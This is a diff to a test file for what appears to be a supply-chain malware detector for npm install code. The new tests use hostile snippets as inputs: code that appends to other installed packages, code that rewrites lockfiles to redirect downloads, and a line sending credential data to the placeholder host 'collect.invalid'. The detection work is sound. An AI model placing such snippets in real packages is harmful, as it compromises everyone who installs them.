@@ -26,6 +26,29 @@ describe('files that are written', () => {
     assert.deepEqual(patch(`'\\nmodule.exports.level = 1;'`), []);
   });
 
+  it('are the code of packages wherever those are found', () => {
+    const patch = (found: string): readonly string[] =>
+      behavioursOf(`const f = ${found}; fs.writeFileSync(f, fs.readFileSync(f, 'utf8') + '\\n;1');`);
+    assert.deepEqual(patch(`require.resolve('express')`), ['other-package-changed import']);
+    assert.deepEqual(patch(`require.resolve('@scope/name', { paths: [process.cwd()] })`), [
+      'other-package-changed import',
+    ]);
+    assert.deepEqual(patch(`require.resolve('./own.js')`), []);
+    assert.deepEqual(flowsOf(`require(require.resolve('node-fetch'))('https://collect.invalid/' + s);`), [
+      'credential-file>network@collect.invalid',
+    ]);
+  });
+
+  it('are where a project installs from', () => {
+    const write = (folder: string, name: string): string =>
+      `const f = path.join(${folder}, '${name}'); fs.writeFileSync(f, fs.readFileSync(f, 'utf8').replace('a', 'b'));`;
+    const project = 'process.env.INIT_CWD || process.cwd()';
+    for (const name of ['package-lock.json', 'yarn.lock', 'pnpm-lock.yaml'])
+      assert.deepEqual(behavioursOf(write(project, name)), ['downloads-redirected import']);
+    assert.deepEqual(behavioursOf(write('__dirname', 'package-lock.json')), []);
+    assert.deepEqual(behavioursOf(`exports.tidy = () => { ${write(project, 'package-lock.json')} };`), []);
+  });
+
   it("are another package's declarations, which nothing runs", () => {
     assert.deepEqual(
       behavioursOf(`fs.copyFileSync('./node_modules/long/index.d.ts', './node_modules/long/umd/index.d.ts');`),
